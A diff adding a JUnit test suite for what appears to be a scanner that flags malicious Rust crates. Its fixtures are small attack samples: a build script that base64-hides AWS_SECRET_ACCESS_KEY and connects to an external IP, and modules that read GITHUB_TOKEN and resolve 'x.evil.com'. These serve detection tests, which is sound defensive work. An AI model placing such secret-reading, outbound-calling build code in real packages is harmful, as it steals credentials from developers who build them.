@@ -1,0 +1,154 @@
+package dev.warden.evaluate.scan;
+
+import dev.warden.core.Evidence;
+import dev.warden.core.Finding;
+import dev.warden.core.Severity;
+import dev.warden.evaluate.source.CrateDirectory;
+import dev.warden.evaluate.source.TreeLimits;
+import dev.warden.testing.AttackCrates;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.nio.file.Path;
+import java.util.List;
+
+import static dev.warden.testing.Fixtures.write;
+import static org.assertj.core.api.Assertions.assertThat;
+
+class CrateScannerTest {
+
+    @TempDir
+    Path dir;
+
+    private CrateScan scan(Path crate) {
+        return CrateScanner.scan(CrateDirectory.read(crate, TreeLimits.DEFAULT), false, null);
+    }
+
+    private static int lineOf(String text, String needle) {
+        List<String> lines = text.lines().toList();
+        for (int i = 0; i < lines.size(); i++) {
+            if (lines.get(i).contains(needle)) {
+                return i + 1;
+            }
+        }
+        throw new AssertionError(needle);
+    }
+
+    private static List<String> ids(CrateScan scan) {
+        return scan.findings().stream().map(f -> f.id() + ":" + f.severity().label()).toList();
+    }
+
+    private static Finding only(CrateScan scan, String id) {
+        return scan.findings().stream().filter(f -> f.id().equals(id)).findFirst().orElseThrow();
+    }
+
+    @Test
+    void theSeedPayloadIsCriticalWithLineEvidence() {
+        AttackCrates.urlParse(dir, AttackCrates.EXFILTRATING_BUILD_SCRIPT);
+        CrateScan scan = scan(dir);
+        assertThat(scan.name()).isEqualTo("url-parse");
+        assertThat(scan.hasBuildScript()).isTrue();
+        Finding critical = only(scan, "exfiltration-pattern");
+        assertThat(critical.severity()).isEqualTo(Severity.CRITICAL);
+        assertThat(critical.message()).contains("build script", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN",
+                "resolves hostnames");
+        assertThat(critical.evidence()).extracting(Evidence::toString)
+                .contains("build.rs:" + lineOf(AttackCrates.EXFILTRATING_BUILD_SCRIPT, "\"AWS_SECRET_ACCESS_KEY\""),
+                        "build.rs:" + lineOf(AttackCrates.EXFILTRATING_BUILD_SCRIPT, "host.to_socket_addrs()"));
+        assertThat(ids(scan)).contains("reads-secret-env:high", "network-access:high", "encodes-data:medium");
+        assertThat(scan.capabilities()).extracting(Capability::toString)
+                .contains("build script: reads AWS_SECRET_ACCESS_KEY", "build script: resolves hostnames");
+    }
+
+    @Test
+    void concatenatedNamesAndNslookupAreCaughtToo() {
+        AttackCrates.urlParse(dir, AttackCrates.CONCATENATING_BUILD_SCRIPT);
+        CrateScan scan = scan(dir);
+        Finding critical = only(scan, "exfiltration-pattern");
+        assertThat(critical.message()).contains("AWS_SECRET_ACCESS_KEY (assembled from pieces)", "runs nslookup");
+        assertThat(ids(scan)).contains("spawns-network-tool:high", "reads-secret-env:high");
+    }
+
+    @Test
+    void aProcMacroPayloadIsCaught() {
+        AttackCrates.urlParseMacro(dir);
+        CrateScan scan = scan(dir);
+        assertThat(scan.procMacro()).isTrue();
+        assertThat(only(scan, "exfiltration-pattern").message()).startsWith("the proc macro reads GITHUB_TOKEN");
+    }
+
+    @Test
+    void base64HiddenNamesAreDecoded() {
+        AttackCrates.urlParse(dir, """
+                fn main() {
+                    let raw = "QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZ";
+                    let name = String::from_utf8(decode(raw)).unwrap();
+                    let v = std::env::var(name).unwrap();
+                    let _ = std::net::TcpStream::connect(("203.0.113.9", 443));
+                }
+                fn decode(_: &str) -> Vec<u8> { Vec::new() }
+                """);
+        CrateScan scan = scan(dir);
+        assertThat(only(scan, "obfuscated-literal").message()).contains("AWS_SECRET_ACCESS_KEY");
+        assertThat(only(scan, "exfiltration-pattern").message()).contains("opens network connections");
+    }
+
+    @Test
+    void libraryCodeIsJudgedByWhereItRuns() {
+        write(dir, "Cargo.toml", "[package]\nname = \"client\"\nversion = \"1.0.0\"\n");
+        write(dir, "src/lib.rs", """
+                pub fn fetch(host: &str) -> std::io::Result<std::net::TcpStream> {
+                    let token = std::env::var("API_TOKEN").ok();
+                    std::net::TcpStream::connect(host)
+                }
+                """);
+        write(dir, "tests/smoke.rs", "fn t() { std::process::Command::new(\"curl\"); }\n");
+        CrateScan scan = scan(dir);
+        assertThat(ids(scan)).containsExactly("reads-secret-env:medium");
+        assertThat(scan.capabilities()).extracting(Capability::toString)
+                .contains("library: opens network connections", "library: reads API_TOKEN");
+    }
+
+    @Test
+    void benignBuildScriptsAreNotAlarming() {
+        write(dir, "Cargo.toml", "[package]\nname = \"sys\"\nversion = \"1.0.0\"\nlinks = \"z\"\n");
+        write(dir, "build.rs", """
+                use std::env;
+                use std::process::Command;
+                fn main() {
+                    let target = env::var("TARGET").unwrap();
+                    let out = env::var_os("OUT_DIR").unwrap();
+                    let rustc = env::var("RUSTC").unwrap_or_else(|_| "rustc".into());
+                    let version = Command::new(rustc).arg("--version").output();
+                    let cc = env::var(format!("CC_{}", target.replace('-', "_")));
+                    println!("cargo:rustc-link-lib=z");
+                    println!("cargo:rerun-if-env-changed=CFLAGS");
+                }
+                """);
+        CrateScan scan = scan(dir);
+        assertThat(scan.findings()).allMatch(f -> f.severity().compareTo(Severity.MEDIUM) < 0);
+        assertThat(ids(scan)).contains("spawns-process:info");
+    }
+
+    @Test
+    void buildScriptModulesCountAsBuildScript() {
+        write(dir, "Cargo.toml", "[package]\nname = \"m\"\nversion = \"1.0.0\"\nbuild = \"tools/build.rs\"\n");
+        write(dir, "tools/build.rs", "mod probe;\n#[path = \"net/helper.rs\"]\nmod helper;\nfn main() { probe::run(); }\n");
+        write(dir, "tools/probe.rs", "pub fn run() { let _ = std::env::var(\"GITHUB_TOKEN\"); }\n");
+        write(dir, "tools/net/helper.rs", "pub fn go() { let _ = \"x.evil.com:53\".to_socket_addrs(); }\n");
+        CrateScan scan = scan(dir);
+        assertThat(only(scan, "exfiltration-pattern").evidence()).extracting(Evidence::file)
+                .contains("tools/probe.rs", "tools/net/helper.rs");
+    }
+
+    @Test
+    void gitignoreStylePackagingRules() {
+        assertThat(GitignoreGlob.matches("src/**", "src/a/b.rs")).isTrue();
+        assertThat(GitignoreGlob.matches("*.rs", "src/deep/x.rs")).isTrue();
+        assertThat(GitignoreGlob.matches("/tests", "tests/a.rs")).isTrue();
+        assertThat(GitignoreGlob.matches("/tests", "src/tests/a.rs")).isFalse();
+        assertThat(GitignoreGlob.matches("docs/", "docs/x.md")).isTrue();
+        assertThat(GitignoreGlob.matches("docs/", "docs")).isFalse();
+        assertThat(GitignoreGlob.matches("src/*.rs", "src/a/b.rs")).isFalse();
+    }
+}
